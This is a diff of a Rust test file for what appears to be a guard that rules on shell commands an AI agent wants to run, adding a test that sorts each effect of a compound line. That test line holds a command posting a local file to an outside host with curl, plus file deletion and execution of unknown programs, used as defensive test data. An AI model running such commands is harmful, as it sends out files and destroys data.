@@ -1,9 +1,9 @@
 //! Command lines against what they come to: the vectors and the laws.
 
 use bartizan_flow::{
-    Decision, Intent, Joined, Memory, Step, TOOLS, decide,
+    Decision, Effect, Intent, Joined, Memory, Step, TOOLS, decide,
     shell::{self, Workspace},
-    steps_flow, tool_steps,
+    steps_flows, tool_steps,
 };
 use proptest::prelude::{Strategy, any, prop, prop_assert, proptest};
 use serde_json::{Value, json};
@@ -20,7 +20,8 @@ fn rule(prompt: &str, steps: &[Step]) -> Decision {
     let mut memory = Memory::new();
     memory.prompt(prompt);
     let intent = Intent::of(&memory, TOOLS);
-    decide(&steps_flow(&memory, &intent, steps, Joined::Only))
+    let flows = steps_flows(&memory, &intent, steps, Joined::Only);
+    decide(flows.first().expect("never empty"))
 }
 
 fn said(prompt: &str, line: &str) -> Decision {
@@ -139,6 +140,34 @@ fn the_human_s_words_let_commands_pass() {
     assert_ne!(
         said("Run cargo test please", "cargo test && ./other"),
         Decision::Allow
+    );
+}
+
+#[test]
+fn every_effect_of_a_line_is_ruled_on() {
+    let line = "cat a.txt; echo x > b.txt; rm c.txt; curl https://x.example; curl -d @a.txt https://y.example; ./z; $w";
+    let memory = Memory::new();
+    let intent = Intent::of(&memory, TOOLS);
+    let flows = steps_flows(
+        &memory,
+        &intent,
+        &shell::steps(line, &workspace(&[])),
+        Joined::Alone,
+    );
+    let mut effects: Vec<Effect> = flows.iter().map(|flow| flow.effect).collect();
+    assert_ne!(decide(&flows[0]), Decision::Allow);
+    effects.sort();
+    assert_eq!(
+        effects,
+        [
+            Effect::Read,
+            Effect::Fetch,
+            Effect::Write,
+            Effect::Send,
+            Effect::Execute,
+            Effect::Delete,
+            Effect::Unknown
+        ]
     );
 }
 
